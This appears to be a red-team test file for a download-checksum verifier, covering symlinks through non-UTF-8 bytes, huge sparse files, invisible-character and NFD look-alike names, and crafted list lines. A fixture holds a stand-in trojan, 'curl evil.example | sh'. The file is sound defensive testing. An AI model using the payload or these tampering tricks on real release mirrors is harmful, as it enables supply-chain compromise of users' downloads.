// Red-team round "downloads second look": `bulwark check downloads SUMS --dir DIR` once more, after the first round
// (test/downloads-red-team.test.ts, test/downloads-attacks.test.ts, src/checks/downloads/*.test.ts) and the second
// look at dangling links (test/second-look-red-team.test.ts). Not repeated here: FIFOs, /dev/zero and directories as
// artifacts, TOCTOU swaps, files that change while hashed, BOM, MD5/SHA-1 lines, duplicates with other digests,
// traversal, dangling links, non-UTF-8 names in the list, /dev/stdin without --dir.
//
// The attackers: a compromised mirror that writes the release directory (links, odd names, sparse files, a replaced
// SHA256SUMS), and a malicious contributor who picks the names of files the publisher lists with its own sha256sum
// (coreutils 9.1 escaping: a line starting with "\" has "\\", "\n" and "\r" escaped), or who can append lines to the
// list. Their aims: a tampered artifact passed with exit 0, a listed file quietly not verified, a report that names a
// file a responder cannot tell from the good one, or a check that reads without bound.
//
// Tried: names that embed a BSD or GNU line, "#", "*", " ", tab, ESC, C1, a CR escaped as "\r" (LF and CRLF lists, GNU
// and --tag forms); a link whose target holds a byte that is not UTF-8, beside a twin named with U+FFFD; a 15 TiB sparse
// artifact and a 15 TiB sparse SHA256SUMS; a twin named with zero-width and soft-hyphen characters; an NFD twin of a
// listed NFC name under --ignore-missing; a hundred appended contradicting lines to crowd the report.
//
// Found (fixed since: 1. every path is resolved, re-checked and opened on its bytes (real-path.ts); 2. a per-artifact
// bound, --max-file-bytes (default 64 GiB), checked before the open and on the descriptor; 3. a 64 MiB bound on the
// checksum file, exit 2; 4. terminal.ts escapes every default-ignorable code point; 5. an absent listed name with a
// normalisation or case twin present is downloads.lookalike-name, high, naming the twin):
//  1. verify.ts resolves each name with realpath() as a string: a byte that is not UTF-8 in the resolved path becomes
//     U+FFFD, and the verifier opens *that* name. A link app.iso -> "blob\xff.bin" (tampered) beside a file named
//     "blob\uFFFD.bin" (the genuine bytes) is "verified", exit 0, while sha256sum -c says FAILED; without the twin, the
//     lossy path is ENOENT and --ignore-missing counts the present, tampered artifact as absent, exit 0.
//  2. No bound on what an artifact costs: a 15 TiB sparse file (truncate -s, no disk used) is hashed whole, hours of
//     reading; the files check caps this (--max-file-bytes, "a truncate -s 4T sparse file ... is not read").
//  3. No bound on the checksum file: a SHA256SUMS replaced by a 15 TiB sparse file is read to its end (bounded memory,
//     unbounded time), though a FIFO or /dev/zero in its place is refused at once.
//  4. Human output quotes names with zero-width and other default-ignorable characters raw: the mismatch for
//     "setup.exe\u200b" reads "setup.exe" on the terminal, beside the genuine setup.exe, and a responder removes the
//     wrong one.
//  5. Under --ignore-missing, a listed NFC name whose NFD twin (the tampered download) is present is counted as absent
//     and the check exits 0; the summary names neither.
// Held (kept as attacks): contributor names through sha256sum's own output in all four forms (greedy BSD parse, CR
// escapes with CRLF lines: "x\r" is read, never a decoy "x"); a hundred appended contradicting lines do not push the
// tampered artifact's name out of the human detail or the JSON evidence.
// Temp dirs only; nothing outside them is read.
import assert from "node:assert/strict";
import { mkdirSync, symlinkSync, truncateSync, writeFileSync } from "node:fs";
import { open, type FileHandle } from "node:fs/promises";
import { join } from "node:path";
import { describe, test } from "node:test";
import { MAX_SUMS_BYTES, verifyDownloads, type VerifyDownloadsResult } from "../src/checks/downloads/index.ts";
import { atLeast } from "../src/checks/finding.ts";
import { nodeScanFS } from "../src/checks/files/hash-file.ts";
import { sha256 } from "./helpers/checks.ts";
import { scratchRoot, within } from "./helpers/scratch.ts";
import { bulwarkInProcess } from "./helpers/cli.ts";

const { root, fresh } = scratchRoot("bulwark-redteam-downloads-second-");

type Items = Array<Record<string, unknown>>;
/** Every evidence item of every finding at or above high, with the finding's id. */
const serious = (r: VerifyDownloadsResult): Items =>
  r.findings.filter((f) => atLeast(f.severity, "high")).flatMap((f) => (f.evidence["items"] as Items).map((i) => ({ ...i, id: f.id })));
const ids = (r: VerifyDownloadsResult): string => JSON.stringify(r.findings.map((f) => [f.id, f.severity, f.evidence["items"]]));

/** A path of raw bytes (a Linux name may hold any byte but "/" and NUL). */
const bytesPath = (dir: string, name: string): Buffer => Buffer.concat([Buffer.from(`${dir}/`, "utf8"), Buffer.from(name, "latin1")]);

/** Makes `path` a sparse file of 15 TiB (ext4's largest is 16 TiB), or the largest of a few smaller sizes the file system takes. */
function sparse(path: string): number {
  for (const size of [15 * 2 ** 40, 2 ** 40, 2 ** 38]) {
    try {
      truncateSync(path, size);
      return size;
    } catch {
      // EFBIG: try a smaller size.
    }
  }
  throw new Error(`cannot make ${path} a sparse file of 256 GiB or more`);
}

// ---------------------------------------------------------------------------------------------------------
// 1. A resolved path whose bytes are not UTF-8
// ---------------------------------------------------------------------------------------------------------

// The names in the list are UTF-8 (others are downloads.unverifiable-name), but what a name resolves to need not be:
// the mirror makes app.iso a link to "blob\xff.bin" and pool a link to the directory "p\xff". verify.ts took
// `realpath(target)` as a string — Node decodes the bytes as UTF-8 and writes U+FFFD for 0xff — then lstat()ed, opened,
// hashed and re-checked (stillInside) that string. The mirror also writes "blob\uFFFD.bin" and "p\uFFFD/lib.so" holding
// the genuine bytes: the verifier read those, said "verified", exit 0. Whoever installs app.iso or pool/lib.so follows
// the links to the tampered files; `sha256sum -c` reads them and says FAILED. ASVS 1.1.1, 1.5.3, 16.5.3.
describe("a listed name that resolves through a byte that is not UTF-8", () => {
  function release(withTwins: boolean): { rel: string; sums: string } {
    const rel = fresh(withTwins ? "fffd-twin" : "fffd-alone");
    writeFileSync(join(rel, "readme.txt"), "genuine readme\n");
    writeFileSync(bytesPath(rel, "blob\xff.bin"), "TAMPERED app\n");
    mkdirSync(bytesPath(rel, "p\xff"));
    writeFileSync(bytesPath(rel, "p\xff/lib.so"), "TAMPERED lib\n");
    symlinkSync(Buffer.from("blob\xff.bin", "latin1") as unknown as string, join(rel, "app.iso"));
    symlinkSync(Buffer.from("p\xff", "latin1") as unknown as string, join(rel, "pool"));
    if (withTwins) {
      writeFileSync(join(rel, "blob\ufffd.bin"), "genuine app\n");
      mkdirSync(join(rel, "p\ufffd"));
      writeFileSync(join(rel, "p\ufffd", "lib.so"), "genuine lib\n");
    }
    const sums = join(rel, "SHA256SUMS");
    writeFileSync(sums, `${sha256("genuine readme\n")}  readme.txt\n${sha256("genuine app\n")}  app.iso\n${sha256("genuine lib\n")}  pool/lib.so\n`);
    return { rel, sums };
  }

  test("attack: links to a tampered file and directory whose names hold 0xff, beside twins named with U+FFFD that hold the genuine bytes — the tampered artifacts are never verified, each is reported at high or above, exit 1 (ASVS 1.1.1, 1.5.3, 16.5.3) (was: realpath() as a string led to the U+FFFD twins, verified, exit 0)", async () => {
    const { rel, sums } = release(true);
    const r = await verifyDownloads({ sums, dir: rel });
    assert.deepEqual(
      r.okNames.filter((n) => n !== "readme.txt"),
      [],
      `app.iso and pool/lib.so lead to blob\\xff.bin and p\\xff/lib.so (tampered), yet were reported verified: realpath() returned the lossy UTF-8 string "…\\ufffd…" and the verifier hashed the twin files named so (findings: ${ids(r)})`,
    );
    assert.deepEqual(serious(r).map((i) => i["name"]).sort(), ["app.iso", "pool/lib.so"], ids(r));
    const cli = await bulwarkInProcess(["check", "downloads", sums, "--dir", rel]);
    assert.equal(cli.code, 1, `exit ${cli.code} for tampered artifacts that sha256sum -c reports as FAILED: ${cli.stdout}`);
  });

  test("attack: the same links without twins under --ignore-missing — the present, tampered artifacts are not counted as absent, they are reported at high or above, exit 1 (ASVS 1.1.1, 16.5.3) (was: the lossy path gave ENOENT, counted absent, exit 0)", async () => {
    const { rel, sums } = release(false);
    const r = await verifyDownloads({ sums, dir: rel, ignoreMissing: true });
    assert.equal(r.missingIgnored, 0, `app.iso and pool/lib.so exist (links to tampered files) but were counted as absent: the lossy "…\\ufffd…" path gave ENOENT (findings: ${ids(r)})`);
    assert.deepEqual(serious(r).map((i) => i["name"]).sort(), ["app.iso", "pool/lib.so"], ids(r));
    const cli = await bulwarkInProcess(["check", "downloads", sums, "--dir", rel, "--ignore-missing"]);
    assert.equal(cli.code, 1, `exit ${cli.code}: ${cli.stdout}`);
  });
});

// ---------------------------------------------------------------------------------------------------------
// 2–3. Sparse files: what one planted file costs
// ---------------------------------------------------------------------------------------------------------

// The mirror replaces image.iso with `truncate -s 15T image.iso`: no disk used, 15 TiB of zeros to read. hashOne called
// hashFile without limits (maxBytes: no limit), so the check hashed for hours (measured: no answer in 5 s, at ~2 GB/s
// about two hours) and its report — the tampering of every other file with it — never comes. The files check bounds
// exactly this (docs/checks.md: "--max-file-bytes N (default 4 GiB) ... A truncate -s 4T sparse file planted in a
// watched tree is not read for five hours: it is named, high"). The read is counted here and stopped at 256 MiB so the
// test ends; the check must not get there. ASVS 1.3.3, 16.5.3.
test("attack: a listed artifact replaced by a 15 TiB sparse file is not read for hours — it is named at high (downloads.too-large-to-hash), not verified, without reading past a bound (ASVS 1.3.3, 16.5.3) (was: hashed whole, hours of reading)", async () => {
  const rel = fresh("sparse-artifact");
  writeFileSync(join(rel, "readme.txt"), "genuine readme\n");
  writeFileSync(join(rel, "image.iso"), "");
  const size = sparse(join(rel, "image.iso"));
  const sums = join(rel, "SHA256SUMS");
  writeFileSync(sums, `${sha256("genuine readme\n")}  readme.txt\n${sha256("genuine image\n")}  image.iso\n`);

  const CAP = 256 * 2 ** 20;
  let bytes = 0;
  const open = nodeScanFS.open;
  nodeScanFS.open = async (p, flags) => {
    const f = await open(p, flags);
    const count = (n: number): number => {
      bytes += n;
      if (bytes > CAP) throw Object.assign(new Error("stopped by the test"), { code: "ETESTCAP" });
      return n;
    };
    return { stat: () => f.stat(), close: () => f.close(), read: async (b) => count(await f.read(b)), readSync: (b) => count(f.readSync(b)) };
  };
  let r: VerifyDownloadsResult | "timeout";
  try {
    // A safety net should the hashing stop going through nodeScanFS.open: the file is cut to nothing, so the read ends.
    const run = verifyDownloads({ sums, dir: rel });
    r = await within(run, 10_000);
    if (r === "timeout") {
      truncateSync(join(rel, "image.iso"), 0);
      await run;
    }
  } finally {
    nodeScanFS.open = open;
  }
  assert.ok(r !== "timeout", `the verifier was still hashing a ${(size / 2 ** 40).toFixed(0)} TiB sparse file after 10 s`);
  assert.ok(bytes <= CAP, `the verifier read more than ${CAP / 2 ** 20} MiB of a ${(size / 2 ** 40).toFixed(0)} TiB sparse file and was still reading (stopped by the test): no bound on the bytes hashed per artifact`);
  assert.deepEqual(r.okNames, ["readme.txt"]);
  assert.deepEqual(serious(r).map((i) => i["name"]), ["image.iso"], ids(r));
});

// The mirror replaces SHA256SUMS itself with a sparse file: one checksum line, then 15 TiB of zeros. openInputFile took
// it (a regular file) and parseSums read it to the end — one endless overlong line, memory bounded, time not — while a
// FIFO or /dev/zero in its place is refused at once (test/cli-check-attacks.test.ts). A genuine SHA256SUMS is a few
// KiB. Secure: refused or cut at a bound (exit 2, or a finding), promptly. What is read of it is counted (every read of
// a file handle while the check runs) and stopped at twice the bound, so the test ends; the check must not get there.
// Should the read go some other way, a safety net truncates the file after 60 s so the read it started ends.
// ASVS 1.3.3, 16.5.3.
test("attack: SHA256SUMS replaced by a 15 TiB sparse file is refused at a bound (64 MiB), promptly, not read to its end (ASVS 1.3.3, 16.5.3) (was: read to its end, hours)", async () => {
  const rel = fresh("sparse-sums");
  writeFileSync(join(rel, "readme.txt"), "genuine readme\n");
  const sums = join(rel, "SHA256SUMS");
  writeFileSync(sums, `${sha256("genuine readme\n")}  readme.txt\n`);
  const size = sparse(sums);

  const CAP = 2 * MAX_SUMS_BYTES;
  let bytes = 0;
  const probe = await open(sums);
  const handles = Object.getPrototypeOf(probe) as FileHandle;
  await probe.close();
  const read = handles.read;
  handles.read = async function (this: FileHandle, ...args: unknown[]) {
    const r = await (read as (...a: unknown[]) => Promise<{ bytesRead: number }>).apply(this, args);
    bytes += r.bytesRead;
    if (bytes > CAP) throw Object.assign(new Error("stopped by the test"), { code: "ETESTCAP" });
    return r;
  } as typeof read;
  let outcome: { result: VerifyDownloadsResult } | { error: Error & { code?: string } } | "timeout";
  try {
    const run = verifyDownloads({ sums, dir: rel }).then(
      (result) => ({ result }),
      (error: unknown) => ({ error: error as Error & { code?: string } }),
    );
    // A safety net should the read stop going through a file handle: the file is cut to nothing, so the read ends.
    outcome = await within(run, 60_000);
    if (outcome === "timeout") {
      truncateSync(sums, 0);
      await run;
    }
  } finally {
    handles.read = read;
  }
  assert.notEqual(outcome, "timeout", `the check was still reading a ${(size / 2 ** 40).toFixed(0)} TiB sparse SHA256SUMS after 60 s: no bound on the checksum file's size`);
  assert.ok(bytes <= CAP, `the check read more than ${CAP / 2 ** 20} MiB of a ${(size / 2 ** 40).toFixed(0)} TiB sparse SHA256SUMS and was still reading (stopped by the test): no bound on the checksum file's size`);
  if (outcome !== "timeout" && "result" in outcome) assert.ok(serious(outcome.result).length > 0, `a checksum file cut at a bound must not come out clean: ${ids(outcome.result)}`);
  else if (outcome !== "timeout") assert.equal(outcome.error.code, "BULWARK_ERR_DOWNLOADS_SUMS", outcome.error.message);
});

// ---------------------------------------------------------------------------------------------------------
// 4–5. Twins a person cannot tell apart
// ---------------------------------------------------------------------------------------------------------

// A contributor adds "setup.exe\u200b" and "set\u00adup.exe" to the release (the publisher lists them, like every file);
// the mirror swaps their content. The report rightly says they do not match, but the human detail quoted the names with
// inertJSON, which escaped controls and bidirectional marks only: on the terminal the mismatch read "setup.exe" and
// "setup.exe", beside a genuine setup.exe that verified. The responder deletes or re-fetches setup.exe and the
// tampered twins stay. docs/checks.md escapes bidi controls for the same reason ("makes the line on screen read as
// another address"); the default-ignorable characters (zero-width space, word joiner, soft hyphen, BOM) do the same
// to a file name. Secure: they are written as \uNNNN in what the operator reads. ASVS 16.4.1, 1.1.1.
test("attack: tampered twins of setup.exe named with a zero-width space, a soft hyphen, a BOM and a word joiner are named on the terminal with those characters visible (\\uNNNN), not as a second \"setup.exe\" (ASVS 16.4.1, 1.1.1) (was: written raw, each read as setup.exe)", async () => {
  const rel = fresh("invisible");
  const twins = ["setup.exe\u200b", "set\u00adup.exe", "\ufeffsetup.exe", "setup\u2060.exe"];
  writeFileSync(join(rel, "setup.exe"), "genuine setup\n");
  for (const twin of twins) writeFileSync(join(rel, twin), "TAMPERED\n");
  const sums = join(rel, "SHA256SUMS");
  writeFileSync(sums, ["setup.exe", ...twins].map((n) => `${sha256("genuine setup\n")}  ${n}\n`).join(""));

  const cli = await bulwarkInProcess(["check", "downloads", sums, "--dir", rel]);
  assert.equal(cli.code, 1, cli.stdout);
  const detail = cli.stdout.split("\n").find((l) => l.includes("(line 2)")) ?? "";
  const hidden = [...cli.stdout].filter((c) => /\p{Default_Ignorable_Code_Point}/u.test(c)).map((c) => `U+${c.codePointAt(0)!.toString(16).toUpperCase().padStart(4, "0")}`);
  assert.deepEqual(hidden, [], `the report names the tampered twins with invisible characters left raw, so they read as "setup.exe" (the genuine, verified file): ${detail.trim()}`);
});

// The user downloads readme.txt and café.iso from a mirror that serves the ISO under an NFD name ("cafe\u0301.iso",
// the same on screen; the tampered bytes) and runs the usual `--ignore-missing`. The list names café.iso in NFC: that
// name does not exist, so it was counted absent; readme.txt verified, so --ignore-missing's "nothing verified" rule did
// not fire; exit 0, "1 of 2 listed file(s) verified; 1 listed but absent" — naming neither. The ISO the user holds was
// never read. Secure: a listed name that is absent while its Unicode-normalisation twin is present is reported (high),
// naming the twin. ASVS 1.1.1, 16.5.3.
test("attack: under --ignore-missing, the NFD twin of a listed NFC name (the tampered download) is not counted as absent — it is reported at high (downloads.lookalike-name), exit 1 (ASVS 1.1.1, 16.5.3) (was: counted absent, exit 0)", async () => {
  const rel = fresh("nfd");
  writeFileSync(join(rel, "readme.txt"), "genuine readme\n");
  writeFileSync(join(rel, "cafe\u0301.iso"), "TAMPERED image\n");
  const sums = join(rel, "SHA256SUMS");
  writeFileSync(sums, `${sha256("genuine readme\n")}  readme.txt\n${sha256("genuine image\n")}  caf\u00e9.iso\n`);

  const r = await verifyDownloads({ sums, dir: rel, ignoreMissing: true });
  assert.ok(
    serious(r).some((i) => typeof i["name"] === "string" && i["name"].normalize("NFC") === "caf\u00e9.iso"),
    `café.iso is present under its NFD name (tampered) but was counted as absent (missingIgnored ${r.missingIgnored}), findings: ${ids(r)}`,
  );
  // At high, as said: a look-alike of a listed name is the tampered download's disguise (a mutant rating it info survived).
  assert.equal(r.findings.find((f) => f.id === "downloads.lookalike-name")?.severity, "high", ids(r));
  const cli = await bulwarkInProcess(["check", "downloads", sums, "--dir", rel, "--ignore-missing"]);
  assert.equal(cli.code, 1, `exit ${cli.code}: ${cli.stdout}`);
});

// ---------------------------------------------------------------------------------------------------------
// Held: the contributor's names through sha256sum's own output, and appended lines that crowd the report
// ---------------------------------------------------------------------------------------------------------

/** A line as coreutils 9.1 `sha256sum` (gnu) or `sha256sum --tag` (bsd) writes it: "\\", "\n", "\r" escaped, then a leading "\". */
function published(form: "gnu" | "bsd", hex: string, name: string): string {
  const escaped = /[\\\n\r]/.test(name);
  const n = name.replace(/\\/g, "\\\\").replace(/\n/g, "\\n").replace(/\r/g, "\\r");
  return `${escaped ? "\\" : ""}${form === "gnu" ? `${hex}  ${n}` : `SHA256 (${n}) = ${hex}`}`;
}

// A contributor's names chosen to fool a loose parser: one holding a whole BSD line for app.sh with the trojan's digest,
// one ending ") = <trojan digest>" (a lazy BSD parse reads name "app.sh"), "#notes" (a comment?), "*" and " " (the
// mode marker), a tab, ESC and C1 NEL, and "x\r" (sha256sum writes "x\\r"; a list republished with CRLF ends adds a real
// CR after it). The mirror drops the trojan as app.sh (not listed) and swaps "x\r" for tampered bytes, leaving the
// genuine ones at a decoy "x". Every name must be read as written, in all four forms: app.sh and "x" never verified,
// "x\r" the one mismatch. ASVS 1.5.3, 16.5.3.
test("attack: contributor names that embed checksum lines, mode markers, comments, controls and an escaped CR are verified as sha256sum wrote them, GNU and --tag, LF and CRLF — a decoy \"x\" never stands in for \"x\\r\", app.sh is never verified (ASVS 1.5.3, 16.5.3)", async () => {
  const rel = fresh("contributor-names");
  const trojan = "curl evil.example | sh\n";
  const names = [`SHA256 (app.sh) = ${sha256(trojan)}`, `app.sh) = ${sha256(trojan)}`, "#notes", "*", " ", "tab\there", "esc\u001b[31m", "nel\u0085x", "x\r", "back\\slash"];
  names.forEach((n, i) => writeFileSync(join(rel, n), `genuine ${i}\n`));
  writeFileSync(join(rel, "app.sh"), trojan);
  const xr = names.indexOf("x\r");
  writeFileSync(join(rel, "x\r"), "TAMPERED\n");
  writeFileSync(join(rel, "x"), `genuine ${xr}\n`);

  for (const form of ["gnu", "bsd"] as const) {
    for (const eol of ["\n", "\r\n"]) {
      const sums = join(root, `SUMS-names-${form}-${eol.length}`);
      writeFileSync(sums, names.map((n, i) => `${published(form, sha256(`genuine ${i}\n`), n)}${eol}`).join(""));
      const r = await verifyDownloads({ sums, dir: rel });
      const label = `${form}, ${eol === "\n" ? "LF" : "CRLF"}`;
      assert.equal(r.entries, names.length, `${label}: every line is a checksum line (${ids(r)})`);
      assert.deepEqual([...r.okNames].sort(), names.filter((n) => n !== "x\r").sort(), label);
      assert.deepEqual(r.findings.map((f) => f.id), ["downloads.mismatch"], label);
      assert.deepEqual(serious(r).map((i) => [i["name"], i["line"]]), [["x\r", xr + 1]], label);
    }
  }
});

// Someone who can append lines to the list (a component's sums file concatenated last) adds a hundred lines giving
// good.iso another digest, to crowd the mismatch finding with the good file's name (a hundred evidence items, five in
// the human detail) so the responder re-fetches good.iso and never sees evil.iso, which the mirror tampered with. The
// publisher's own lines come first, so evil.iso's mismatch is the first item: named in the human detail and in the
// JSON evidence. ASVS 16.5.3.
test("attack: a hundred appended lines contradicting a genuine file do not push the tampered artifact's name out of the human detail or the JSON evidence (ASVS 16.5.3)", async () => {
  const rel = fresh("crowd");
  writeFileSync(join(rel, "good.iso"), "genuine good\n");
  writeFileSync(join(rel, "evil.iso"), "TAMPERED\n");
  const sums = join(rel, "SHA256SUMS");
  const appended = Array.from({ length: 100 }, (_, i) => `${sha256(`decoy ${i}`)}  good.iso\n`).join("");
  writeFileSync(sums, `${sha256("genuine good\n")}  good.iso\n${sha256("genuine evil\n")}  evil.iso\n${appended}`);

  const human = await bulwarkInProcess(["check", "downloads", sums, "--dir", rel]);
  assert.equal(human.code, 1);
  const mismatch = human.stdout.split("\n").findIndex((l) => l.startsWith("[CRITICAL] downloads.mismatch"));
  assert.match(human.stdout.split("\n")[mismatch + 1] ?? "", /"evil\.iso" \(line 2\)/);
  const json = JSON.parse((await bulwarkInProcess(["check", "downloads", sums, "--dir", rel, "--json"])).stdout) as { findings: Array<{ id: string; evidence: { items: Items } }> };
  const items = json.findings.find((f) => f.id === "downloads.mismatch")?.evidence.items ?? [];
  assert.ok(items.some((i) => i["name"] === "evil.iso"), "evil.iso is in the JSON evidence");
});
